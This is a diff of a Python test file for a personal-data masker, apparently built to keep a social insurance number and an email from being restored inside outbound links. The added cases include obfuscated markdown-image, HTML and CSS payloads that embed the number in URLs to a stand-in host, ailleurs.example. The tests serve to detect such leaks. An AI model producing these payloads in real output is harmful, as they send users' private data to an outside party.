@@ -45,6 +45,16 @@ OUTWARD = [
     "https://dossiers.exemple.qc.ca/fiche?courriel=[COURRIEL_1]",
     "https://dossiers.exemple.qc.ca.ailleurs.example/fiche?nas=[NAS_1B]",
     "![x](https://ailleurs.example/" + "a" * 9000 + "[NAS_1])",
+    "![x][1]\n\n[1]: &#104;ttps://ailleurs.example/?q=[NAS_1]",
+    "![x][1]\n\n[1]:" + " " * 90 + "https\\://ailleurs.example/?q=[NAS_1]",
+    "![x][1]\n\n[1]: /\\ailleurs.example/?q=[NAS_1]",
+    "![x][1]\n\n[1]: <&#104;ttps://ailleurs.example/a b [NAS_1]>",
+    "![x](" + " " * 90 + "&#104;ttps://ailleurs.example/?q=[NAS_1])",
+    "<pre><img src='&#104;ttps://ailleurs.example/?q=\n\n[NAS_1]'></pre>",
+    "<p style='background: url(&#104;ttps://ailleurs.example/[NAS_1])'>",
+    "<style>p { background: url(\\68ttps://ailleurs.example/<[NAS_1]) }</style>",
+    "<td background='/\\ailleurs.example/[NAS_1]'>",
+    "www.ailleurs.example/[NAS_1]",
 ]
 
 
@@ -72,6 +82,14 @@ def test_an_address_that_was_not_sent_carries_no_value(masker: Masker, text: str
         ("<https://ailleurs.example/> [NAS_1]", "…> 130 692 544"),
         ("C:\\Users\\[PERSONNE_F_1], C:\\\\Users\\\\[PERSONNE_F_1]", "…\\\\Julie Tremblay"),
         ("x = 1; // le NAS [NAS_1]", "x = 1; // le NAS 130 692 544"),
+        (
+            '<a href="mailto:[COURRIEL_1]">écrire</a>',
+            '<a href="mailto:julie.tremblay@hotmail.com">écrire</a>',
+        ),
+        ("<site>https://ailleurs.example</site><nas>[NAS_1]</nas>", "…<nas>130 692 544</nas>"),
+        ("| https://ailleurs.example<br>[NAS_1] |", "…<br>130 692 544 |"),
+        ("L'https://ailleurs.example, puis [NAS_1]", "…, puis 130 692 544"),
+        ("[PERSONNE_F_1]: **[NAS_1]**, [PERSONNE_F_1]: \\textbf{[NAS_1]}", "…: \\textbf{130 692 544}"),
         ("et/ou : [NAS_1]; 3//4 [NAS_1]", "et/ou : 130 692 544; 3//4 130 692 544"),
     ],
 )
@@ -87,10 +105,17 @@ def test_documents_are_read_by_their_strings(masker: Masker) -> None:
         "nas": "[NAS_1]",
         "b": '<img src="https://ailleurs.example/ [NAS_1]">',
         "c": "https://ailleurs.example/[NAS_1]",
+        "d": "![x][1]\n\n[1]:\n&#104;ttps://ailleurs.example/[NAS_1]",
+        "e": '<img src="&#104;ttps://ailleurs.example/ [NAS_1]">',
     }
     for separators in ((",", ":"), (", ", ": ")):
         told = json.loads(shown(masker, json.dumps(document, separators=separators), 9, as_json=True))
         assert told == document | {"nas": "130 692 544"}
+
+
+def test_an_address_ends_with_its_line_in_documents_too(masker: Masker) -> None:
+    told = shown(masker, json.dumps({"a": "Voir https://ailleurs.example\n[NAS_1]"}), 9, as_json=True)
+    assert json.loads(told) == {"a": "Voir https://ailleurs.example\n130 692 544"}
 
 
 def test_tools_are_given_what_they_are_called_with(masker: Masker) -> None:
